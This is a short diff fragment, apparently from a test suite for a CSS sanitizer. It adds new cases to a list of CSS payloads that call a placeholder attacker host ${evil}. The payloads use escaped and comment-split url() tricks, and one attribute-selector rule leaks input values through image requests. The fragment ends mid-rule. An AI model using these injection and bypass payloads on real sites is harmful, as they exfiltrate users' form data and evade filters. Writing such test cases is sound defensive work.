@@ -27,6 +27,7 @@ h1::before{content:url(${evil}/${n}-content.png)}p{background:\\75rl(${evil}/${n
 li{list-style:url(${evil}/${n}-list.png)}input[value^="a"]{background-image:image-set("${evil}/${n}-leak-a.png" 1x)}
 div{border-image:url(${evil}/${n}-border.png) 1;mask-image:url(${evil}/${n}-mask.svg);filter:url(${evil}/${n}-filter.svg#f);--v:url(${evil}/${n}-var.png);background:var(--v)}
 @namespace url(${evil}/${n}-ns);
+p{--x:\u00e9url(data:/*) " */ );background:url(${evil}/${n}-letter.png);content:" "}p{--y:\u00e9url(#/*) " */ );background:url(${evil}/${n}-hash.png);content:" "}p{--z:\0url(data:/*) " */ );background:url(${evil}/${n}-nul.png);content:" "}
 b{background:image-set("a;b" 1x,"${evil}/${n}-set-semicolon.png" 2x)}b{background:image-set(/*;*/"${evil}/${n}-set-comment.png" 1x)}b{background:image\\2dset("${evil}/${n}-set-escaped.png" 1x)}
 b{--x:"${evil}/${n}-set-var.png";background:image-set(var(--x) 1x)}b{background:ur@font-face{src:url(x)}l(${evil}/${n}-joined.png)}
 b{background:url("data:,
